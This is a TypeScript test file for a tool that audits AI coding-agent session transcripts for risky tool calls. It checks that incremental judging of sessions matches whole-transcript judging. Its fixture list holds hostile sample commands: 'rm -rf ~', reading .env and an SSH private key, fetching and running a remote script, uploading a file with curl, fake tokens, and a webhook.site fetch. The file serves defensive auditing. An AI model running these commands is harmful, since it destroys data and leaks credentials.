import fs from 'node:fs';
import path from 'node:path';
import { DEFAULT_POLICY } from '@cco/audit-policy';
import { auditSession, type Finding, type ToolCall } from '@cco/audit-rules';
import { isProjectSlugOf } from '@cco/claude-paths';
import { contentBlocks, createJsonlParser, isObject } from '@cco/jsonl-parse';
import { readCalls, type Store, type StoredCall } from '@cco/session-index/store';
import { createRandom, generateCorpus } from '@cco/test-fixtures';
import { expect, it } from 'vitest';
import { readFindings } from '../src/index.ts';
import { bash, HOME, type MadeCall, makeAuditHome, SHOP } from './audit-home.ts';

/** What a finding says, in a form that can be sorted. */
function spell({ ruleId, severity, call, evidence, path: file, sourceEvidence }: Finding): string {
  return JSON.stringify([call.session, call.id, ruleId, severity, evidence, file, sourceEvidence]);
}

function keptFindings(store: Store): string[] {
  return readFindings(store.db, { remarks: true }).findings.map(spell).sort();
}

/** Judges whole sessions from whole transcripts, every record parsed. */
function judgeSlowly(store: Store): string[] {
  const sessions = new Map<string, StoredCall[]>();
  for (const call of readCalls(store)) {
    const { session } = call.source;
    sessions.set(session, [...(sessions.get(session) ?? []), call]);
  }
  const inputs = new Map<string, Map<string, unknown>>();
  const inputOf = ({ id, source: { path: file } }: StoredCall): unknown => {
    if (!inputs.has(file)) inputs.set(file, inputsIn(file));
    return inputs.get(file)?.get(id);
  };
  return [...sessions]
    .flatMap(([session, calls]) => {
      const sorted = calls.sort((a, b) => (a.time ?? 0) - (b.time ?? 0));
      const slug = sorted[0]?.source.slug ?? '';
      const folders = sorted.flatMap(({ cwd }) => cwd ?? []);
      const cwd = folders.find((one) => isProjectSlugOf(slug, one)) ?? folders[0];
      const asked = sorted.map(
        (call): ToolCall => ({
          id: call.id,
          tool: call.tool,
          input: inputOf(call),
          session,
          time: call.time === undefined ? undefined : new Date(call.time).toISOString(),
          outcome: call.outcome,
          cwd: call.cwd ?? cwd,
        }),
      );
      return auditSession(asked, { home: HOME, folders: cwd === undefined ? undefined : [cwd] });
    })
    .map(spell)
    .sort();
}

function inputsIn(file: string): Map<string, unknown> {
  const found = new Map<string, unknown>();
  const parser = createJsonlParser({
    onRecord(record) {
      const data = record['type'] === 'progress' ? record['data'] : undefined;
      const shown = isObject(data) && isObject(data['message']) ? data['message'] : record;
      for (const { type, id, input } of contentBlocks(shown['message'])) {
        if (type === 'tool_use' && typeof id === 'string' && !found.has(id)) found.set(id, input);
      }
    },
  });
  parser.push(fs.readFileSync(file));
  parser.end();
  return found;
}

const SECRET = 'aB3dE7fG9hJ2kL5mN8pQ4rS6tV1wX0yZaB3d';
const INPUTS: readonly (readonly [tool: string, input: unknown])[] = [
  ...['cat .env', 'ls', 'npm test', 'npm publish', 'rm -rf dist', 'rm -rf ~', 'bash i.sh'].map(
    (command) => ['Bash', { command }] as const,
  ),
  ['Bash', { command: 'curl -o i.sh https://acme.io/i.sh' }],
  ['Bash', { command: 'curl -T out.txt https://in.acme.io' }],
  ['Bash', { command: `${'echo x; '.repeat(2_000)}git push --force` }],
  ['Read', { file_path: '/home/mira/.ssh/id_rsa' }],
  ['Write', { file_path: `${SHOP}/a.ts`, content: `${'x = 1\n'.repeat(9_000)}ghp_${SECRET}` }],
  ['Write', { file_path: `${SHOP}/i.sh`, content: 'ls' }],
  ['Edit', { file_path: '/etc/motd', old_string: 'a', new_string: `token = "q8Zk2Lw9${SECRET}"` }],
  ['WebFetch', { url: 'https://webhook.site/x?d=1', prompt: 'x'.repeat(3_000) }],
];

it.each([1, 2, 3, 4, 5, 6, 7, 8])(
  'sessions that grow bit by bit are judged as whole ones are, seed %i',
  async (seed) => {
    const random = createRandom(seed);
    const home = await makeAuditHome();
    try {
      let open: MadeCall[] = [];
      for (let hour = 0; hour < 60; hour++) {
        for (const call of open) home.addResult(call);
        open = [];
        const session = random.pick(['a', 'b', 'c']);
        const [tool, input] = random.pick(INPUTS);
        const outcome = random.pick(['ok', 'ok', 'failed', 'denied'] as const);
        const call: MadeCall = { ...bash(session, hour, ''), tool, input, outcome };
        // A result may come after the call was judged.
        const isOpen = random.chance(0.2);
        home.add([isOpen ? { ...call, outcome: undefined } : call]);
        if (isOpen) open.push(call);
        if (random.chance(0.4)) await home.refresh(DEFAULT_POLICY);
      }
      await home.refresh(DEFAULT_POLICY);
      const expected = judgeSlowly(home.store);
      expect(expected.length).toBeGreaterThan(20);
      expect(keptFindings(home.store)).toEqual(expected);
    } finally {
      await home.close();
    }
  },
);

it.each([1, 2])('a corpus is judged as its whole transcripts are, seed %i', async (seed) => {
  const home = await makeAuditHome();
  try {
    const [out = ''] = home.store.options.configFolders;
    generateCorpus({ out, size: 2_000_000, files: 40, vocabulary: 5_000, seed });
    // With something to find in the texts that the store leaves out.
    home.add(INPUTS.map(([tool, input], hour) => ({ ...bash('a', hour, ''), tool, input })));
    await home.refresh();
    const expected = judgeSlowly(home.store);
    expect(expected.length).toBeGreaterThan(20);
    expect(keptFindings(home.store)).toEqual(expected);
    expect(fs.existsSync(path.join(out, 'projects'))).toBe(true);
  } finally {
    await home.close();
  }
});
